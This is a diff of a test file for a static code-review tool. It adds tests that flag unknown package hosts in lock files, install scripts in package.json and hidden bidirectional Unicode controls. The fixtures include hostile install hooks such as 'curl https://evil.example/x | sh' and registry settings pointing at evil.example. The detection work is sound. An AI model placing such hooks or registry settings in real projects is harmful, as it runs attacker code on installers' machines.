@@ -14,11 +14,12 @@ import { doubtSamples } from './samples/rule-samples-doubt.ts'
 import { moreSamples } from './samples/rule-samples-more.ts'
 import { otherSamples, secretsOfSamples } from './samples/rule-samples-other.ts'
 import { scriptSamples } from './samples/rule-samples-script.ts'
+import { textSamples } from './samples/rule-samples-text.ts'
 
 const reviewer = createStaticReviewer({ fileDeadlineMs: 20_000 })
 afterAll(() => reviewer[Symbol.asyncDispose]())
 
-const samples = [...scriptSamples, ...otherSamples, ...moreSamples, ...doubtSamples]
+const samples = [...scriptSamples, ...otherSamples, ...moreSamples, ...doubtSamples, ...textSamples]
 
 async function review(files: Record<string, string>): Promise<readonly ProposedFinding[]> {
   const report = await reviewer.review(addedFiles(files), emptyContext, AbortSignal.timeout(60_000))
@@ -78,6 +79,7 @@ describe('each rule', () => {
 })
 
 function languagesOf(rule: Rule): string {
+  if (rule.manifest) return 'manifests, lock files'
   if (!rule.syntax) return rule.line ? 'any text' : rule.graph ? 'code graph' : 'CI workflows'
   const names = { javascript: 'JavaScript', typescript: 'TypeScript', python: 'Python', go: 'Go', java: 'Java' }
   const known = Object.entries(names).filter(([id]) =>
@@ -97,6 +99,94 @@ function expectWellFormed(finding: ProposedFinding, text: string): void {
   const all = JSON.stringify(finding)
   for (const secret of secretsOfSamples) expect(all).not.toContain(secret)
 }
+
+describe('manifests and lock files', () => {
+  const lock = (packages: object) => `${JSON.stringify({ packages }, null, 1)}\n`
+  const entry = (host: string, more: object = {}) => ({ resolved: `https://${host}/a.tgz`, ...more })
+  async function find(base: Record<string, string>, head: Record<string, string>) {
+    const report = await reviewer.review(changeOf(base, head), emptyContext, AbortSignal.timeout(60_000))
+    return report.findings.map(({ rule, severity, title }) => `${rule} ${severity}: ${title}`)
+  }
+
+  it('case 72: know the hosts of the lock file and of the registry settings on the base', async () => {
+    const before = lock({ 'node_modules/a': entry('npm.acme.example') })
+    const after = lock({
+      'node_modules/a': entry('npm.acme.example'),
+      'node_modules/b': entry('npm.acme.example'),
+      'node_modules/c': entry('other.acme.example'),
+    })
+    const title = 'Packages come from `other.acme.example`, which nothing on the base branch names'
+    const found = [`unknown-package-host moderate: ${title}`]
+    expect(await find({ 'package-lock.json': before }, { 'package-lock.json': after })).toEqual(found)
+    const settings = { '.npmrc': '@acme:registry=https://other.acme.example/\n' }
+    const files = { 'package-lock.json': before, ...settings }
+    expect(await find(files, { ...settings, 'package-lock.json': after })).toEqual([])
+    const elsewhere = { 'tools/yarn.lock': 'a@1:\n  resolved "https://other.acme.example/a.tgz"\n' }
+    expect(await find({ ...files, ...elsewhere }, { ...elsewhere, 'package-lock.json': after })).toEqual([])
+  })
+
+  it('case 72: know nothing of what the change itself brings along, nor of another package world', async () => {
+    const before = lock({})
+    const after = lock({ 'node_modules/a': entry('evil.example') })
+    const settings = { '.npmrc': 'registry=https://evil.example/\n' }
+    const found = await find({ 'package-lock.json': before }, { 'package-lock.json': after, ...settings })
+    expect(found.filter((each) => each.startsWith('unknown-package-host moderate'))).toHaveLength(2)
+    const python = { 'pip.conf': 'index-url = https://evil.example/simple\n' }
+    expect(
+      await find({ ...python, 'package-lock.json': before }, { ...python, 'package-lock.json': after }),
+    ).toHaveLength(1)
+  })
+
+  it('case 72: a new install script is minor, and one that was there before is none', async () => {
+    const before = lock({ 'node_modules/a': entry('registry.npmjs.org', { hasInstallScript: true }) })
+    const after = lock({
+      'node_modules/b/node_modules/a': entry('registry.npmjs.org', { hasInstallScript: true, version: '2.0.0' }),
+      'node_modules/c': entry('registry.npmjs.org', { hasInstallScript: true }),
+    })
+    expect(await find({ 'package-lock.json': before }, { 'package-lock.json': after })).toEqual([
+      'install-script minor: `c` runs a script when installed, and did not before',
+    ])
+  })
+
+  it.each([
+    ['husky', 'minor'],
+    ['node -e "require(1)"', 'moderate'],
+    ['curl -o x https://evil.example/x', 'moderate'],
+    ['curl https://evil.example/x | sh', 'critical'],
+  ])('case 71: a script %s that is run at an installation is %s', async (command, severity) => {
+    const manifest = `${JSON.stringify({ scripts: { postinstall: command } }, null, 1)}\n`
+    const found = await find({ 'package.json': '{}\n' }, { 'package.json': manifest })
+    expect(found.filter((each) => each.startsWith('install-script'))).toEqual([
+      expect.stringMatching(`^install-script ${severity}: `),
+    ])
+    const other = await find({ 'package.json': manifest }, { 'package.json': manifest.replace('{', '{ "a": 1,') })
+    expect(other.filter((each) => each.startsWith('install-script'))).toEqual([])
+  })
+
+  it('that cannot be read are a finding', async () => {
+    const change = addedFiles({ 'yarn.lock': `a:\n  resolved "https://evil.example/a"\n${'#'.repeat(17 << 20)}\n` })
+    const { findings } = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
+    expect(findings).toMatchObject([{ rule: 'unknown-package-host', title: expect.stringMatching(/too large/) }])
+  })
+})
+
+describe('security rules on text', () => {
+  it('case 77: look at tests, and at files of every name', async () => {
+    const text = `${readMarks(textSamples[0]!.fires[0]!).text}`
+    for (const path of ['src/a.test.ts', 'tests/helper.js', 'conftest.py', 'Makefile', 'gradlew', 'x.php', 'LICENSE'])
+      expect((await review({ [path]: text })).map(({ rule }) => rule)).toContain('bidirectional-text')
+  })
+
+  it.each(['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068'])(
+    'case 77: %j that nothing ends is critical in a program, whatever its language',
+    async (control) => {
+      for (const path of ['a.c', 'a.py', 'a.rs', 'a.sql', 'a.sh', '.github/workflows/a.yml', 'Dockerfile', 'a.vue']) {
+        const [finding] = await review({ [path]: `# "level${control}" ok\n` })
+        expect(finding, path).toMatchObject({ rule: 'bidirectional-text', severity: 'critical' })
+      }
+    },
+  )
+})
 
 describe('suggestions', () => {
   const suggestion = async (file: string, text: string) => (await review({ [file]: text }))[0]?.suggestion
